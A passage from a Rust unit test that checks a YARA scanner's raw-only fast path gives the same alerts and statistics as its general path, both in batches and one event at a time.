            .any(|event| event.raw.is_none() && event.raw_base64.is_some()));
        for limit in [1024 * 1024, 50_000] {
            let config = raw_only_config(limit);
            let mut fast = YaraScanner::new(&rules, &config);
            assert!(fast.raw_only);
            let mut general = YaraScanner::new(&rules, &config);
            general.raw_only = false;
            let alerts = fast.scan_events(&events);
            assert_eq!(alerts, general.scan_events(&events));
            assert_eq!(fast.stats(), general.stats());
            assert!(alerts.len() >= 4, "{alerts:?}");
            assert!(fast.stats().batch_scans >= 2, "{:?}", fast.stats());
            // One event at a time, as well.
            let mut fast_each = YaraScanner::new(&rules, &config);
            let mut general_each = YaraScanner::new(&rules, &config);
            general_each.raw_only = false;
            for event in &events {
                assert_eq!(fast_each.scan_event(event), general_each.scan_event(event));
            }
            assert_eq!(fast_each.stats(), general_each.stats());
        }
    }
}
